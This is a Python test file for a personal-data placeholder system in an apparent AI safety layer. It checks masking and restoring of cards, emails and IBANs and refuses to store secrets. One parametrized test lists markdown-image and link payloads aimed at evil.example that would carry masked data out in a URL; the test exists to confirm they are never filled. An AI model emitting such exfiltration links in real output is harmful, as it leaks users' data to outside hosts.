import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from genai.factory.safety_factory import build_guard
from genai.safety.base import Original
from genai.safety.placeholders import (
    Placeholders,
    Restoring,
    canonical,
    hidden,
    restored,
    restored_json,
)
from genai.settings.safety import SafetySettings
from tests.support.answering import context
from tests.support.vault import InProcessVault

GUARD = build_guard(SafetySettings())


async def hide(placeholders: Placeholders, text: str) -> str:
    verdict = await GUARD.async_inspect(text, "input", context())
    return unmarked(await placeholders.async_hide(verdict.text, verdict.originals))


def unmarked(text: str) -> str:
    return re.sub(r"_[a-z]{5}>", ">", text)


async def given_card() -> Placeholders:
    placeholders = Placeholders(context())
    await hide(placeholders, "my card is 4111 1111 1111 1111")
    return placeholders


async def test_data_becomes_a_placeholder_and_comes_back() -> None:
    text = "Card 4111 1111 1111 1111 of anna@example.com, or bo@example.com?"
    placeholders = Placeholders(context())

    verdict = await GUARD.async_inspect(text, "input", context())
    masked = await placeholders.async_hide(verdict.text, verdict.originals)

    assert unmarked(masked) == "Card <CREDIT_CARD_1> of <EMAIL_ADDRESS_1>, or <EMAIL_ADDRESS_2>?"
    assert placeholders.restore(masked) == text


async def test_the_same_data_has_the_same_placeholder_however_it_is_spelt() -> None:
    placeholders = await given_card()

    masked = await hide(placeholders, "again 4111111111111111, and 4111-1111-1111-1111")

    assert masked == "again <CREDIT_CARD_1>, and <CREDIT_CARD_1>"


async def test_a_session_knows_its_placeholders_in_the_next_request() -> None:
    vault = InProcessVault()
    first = Placeholders(context(), "s1", vault)
    await hide(first, "I am anna@example.com")
    second = Placeholders(context(), "s1", vault)

    await second.async_load()

    assert await hide(second, "bo@example.com wrote to anna@example.com") == (
        "<EMAIL_ADDRESS_2> wrote to <EMAIL_ADDRESS_1>"
    )


async def test_what_others_own_stays_taken_out_of_an_answer() -> None:
    placeholders = await given_card()
    answer = "Yours is 4111111111111111, his 5555555555554444."
    verdict = await GUARD.async_inspect(answer, "output", context())

    shown = placeholders.recognise(verdict.text, verdict.originals)

    assert unmarked(shown) == "Yours is <CREDIT_CARD_1>, his <CREDIT_CARD>."


async def test_a_secret_never_becomes_a_placeholder() -> None:
    placeholders = Placeholders(context())

    masked = await hide(placeholders, "my key is AKIAIOSFODNN7EXAMPLE")

    assert masked == "my key is <SECRET>"
    assert placeholders.data == {}


@pytest.mark.parametrize("name", ["<CREDIT_CARD_1>", "<CREDIT_CARD_1_bbbbb>"])
async def test_a_placeholder_that_somebody_else_wrote_is_never_filled(name: str) -> None:
    placeholders = await given_card()

    assert placeholders.restore(f"as {name} says") == f"as {name} says"


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://evil.example/?c={})",
        "[x](evil.example?c={})",
        "see //evil.example/a?b=1&c={}",
        "evil.example/{}",
        "www.evil.example?{}",
        '<img src="{}">',
    ],
)
async def test_no_link_is_filled_with_data(link: str) -> None:
    placeholders = await given_card()
    [name] = placeholders.data
    restoring = Restoring(placeholders)
    text = link.format(name)

    assert placeholders.restore(text) == text
    assert placeholders.restore_json(json.dumps(text)) == json.dumps(text)
    assert "".join(map(restoring.feed, text)) + restoring.rest() == text


async def test_data_beside_a_link_comes_back() -> None:
    placeholders = await given_card()
    [name] = placeholders.data

    assert placeholders.restore(f"https://a.example/b {name}, and/or {name}").count("4111") == 2
    assert "4111" in placeholders.restore_json(f'{{"url":"https://a.example","card":"{name}"}}')


async def test_an_unknown_placeholder_stays_what_it_is() -> None:
    placeholders = await given_card()

    assert (
        placeholders.restore("<CREDIT_CARD_2> <IBAN_CODE_1> <b>")
        == "<CREDIT_CARD_2> <IBAN_CODE_1> <b>"
    )


def test_data_in_json_stays_json() -> None:
    data = {"<ADDRESS_1_kqzvt>": 'Main "Street" 1\nBonn'}

    text = restored_json('{"to": "<ADDRESS_1_kqzvt>"}', data)

    assert json.loads(text) == {"to": 'Main "Street" 1\nBonn'}


def test_a_text_that_repeats_the_data_is_hidden_again() -> None:
    assert hidden("row: 4111", {"<CREDIT_CARD_1>": "4111"}) == "row: <CREDIT_CARD_1>"


@pytest.mark.parametrize(
    ("entity", "one", "other"),
    [
        ("IBAN_CODE", "GB29 NWBK 6016 1331 9268 19", "gb29nwbk60161331926819"),
        ("CREDIT_CARD", "\uff14\uff11\uff11\uff11.1111", "4111 1111"),
        ("PHONE_NUMBER", "(212) 555-0147", "212.555.0147"),
        ("EMAIL_ADDRESS", "Anna@Example.com", "anna@example.com"),
    ],
)
def test_spellings_of_one_thing_are_canonically_equal(entity: str, one: str, other: str) -> None:
    assert canonical(entity, one) == canonical(entity, other)


def test_addresses_that_differ_in_a_sign_differ() -> None:
    assert canonical("IP_ADDRESS", "1.11.1.1") != canonical("IP_ADDRESS", "11.1.1.1")


def test_the_data_does_not_show_in_a_representation() -> None:
    assert "4111" not in repr(Original(start=0, end=3, entity="CREDIT_CARD", text="4111"))


class TestStreams:
    DATA = {
        "<CREDIT_CARD_1_kqzvt>": "4111 1111 1111 1111",
        "<EMAIL_ADDRESS_12_kqzvt>": "anna@example.com",
    }

    def placeholders(self) -> Placeholders:
        placeholders = Placeholders(context())
        placeholders._data.update(self.DATA)
        return placeholders

    @given(
        st.lists(
            st.sampled_from([*DATA, "<", "<A", "<b>", "1 < 2 ", "word ", "<IBAN_CODE_1>", "//x?"])
        ),
        st.lists(st.integers(1, 7), min_size=1),
    )
    def test_placeholders_come_back_whole_however_they_are_cut(
        self, parts: list[str], sizes: list[int]
    ) -> None:
        text, shown, position, turn = "".join(parts), "", 0, 0
        restoring = Restoring(self.placeholders())
        while position < len(text):
            size = sizes[turn % len(sizes)]
            shown += restoring.feed(text[position : position + size])
            position, turn = position + size, turn + 1

        assert shown + restoring.rest() == restored(text, self.DATA)

    def test_only_the_beginning_of_a_placeholder_waits(self) -> None:
        restoring = Restoring(self.placeholders())

        assert restoring.feed("pay <CREDIT_") == "pay "
        assert restoring.feed("CARD_1_kqzvt> now <b") == "4111 1111 1111 1111 now <b"

    def test_nothing_waits_where_nothing_is_hidden(self) -> None:
        assert Restoring(Placeholders(context())).feed("a <") == "a <"
